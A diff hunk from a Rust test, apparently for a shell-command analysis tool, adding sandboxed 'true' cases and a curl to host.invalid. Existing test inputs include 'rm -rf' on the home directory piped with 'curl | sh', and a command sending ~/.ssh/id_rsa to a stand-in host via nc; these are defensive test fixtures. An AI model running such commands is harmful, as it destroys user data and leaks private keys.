@@ -514,6 +514,9 @@ fn the_members_of_answers_are_documented() {
         ][..],
         &["check", "--json", "--", "x=~; rm -rf $x; curl https://x.example | sh"],
         &["explain", "--json", "--", "cat ~/.ssh/id_rsa | nc x.example 1"],
+        &["explain", "--json", "--sandbox", "--", "/bin/true"],
+        &["explain", "--json", "--sandbox", "--", "true"],
+        &["run", "--json", "--", "curl -sS https://host.invalid"],
         &[
             "run",
             "--json",
